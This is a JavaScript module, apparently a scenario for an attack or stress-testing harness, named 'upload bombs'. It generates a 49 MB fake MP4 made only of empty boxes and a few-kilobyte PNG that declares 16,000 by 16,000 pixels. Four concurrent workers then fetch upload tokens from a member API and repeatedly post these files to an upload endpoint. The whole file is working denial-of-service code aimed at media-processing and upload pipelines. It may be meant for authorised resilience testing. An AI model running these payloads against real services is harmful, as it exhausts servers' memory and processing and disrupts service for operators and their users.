import { crc32, deflateSync } from 'node:zlib'

const word = (value) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** A head that says mp4, then nothing but boxes of the least length there is. */
function manyBoxes(bytes) {
  const head = Buffer.concat([word(24), Buffer.from('ftypisom'), word(0), Buffer.from('isommp42')])
  return Buffer.concat([head, Buffer.alloc(bytes - head.length, Buffer.concat([word(8), Buffer.from('free')]))])
}

/** A few kilobytes that are a picture of as many points as its side says squared. */
function widePicture(side) {
  const chunk = (name, data) => {
    const named = Buffer.concat([Buffer.from(name), data])
    return Buffer.concat([word(data.length), named, word(crc32(named))])
  }
  const size = Buffer.concat([word(side), word(side), Buffer.from([1, 0, 0, 0, 0])])
  const lines = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', size), chunk('IDAT', lines), chunk('IEND', Buffer.alloc(0))])
}

const bombs = [
  { purpose: 'work', name: 'a.mp4', file: manyBoxes(49 * 1024 * 1024) },
  { purpose: 'avatar', name: 'a.png', file: widePicture(16_000) },
]
const boundary = 'hostile-hostile'

function formOf({ token, key }, { name, file }) {
  const field = (title, value) => `--${boundary}\r\nContent-Disposition: form-data; name="${title}"\r\n\r\n${value}\r\n`
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`
  return Buffer.concat([
    Buffer.from(field('token', token) + field('key', key) + head),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ])
}

export default {
  name: 'upload bombs',
  start(door) {
    const headers = { token: door.token, 'content-type': 'application/json' }
    door.crowd(4, async (index) => {
      const bomb = bombs[index % bombs.length]
      const { text } = await door.ask('/api/Member/getQiniuToken', {
        body: JSON.stringify({ purpose: bomb.purpose }),
        headers,
      })
      const right = text.startsWith('{') ? JSON.parse(text).data : undefined
      if (!right?.token) return door.pause(500)
      await door.ask('/upload', {
        body: formOf(right, bomb),
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      })
    })
  },
}
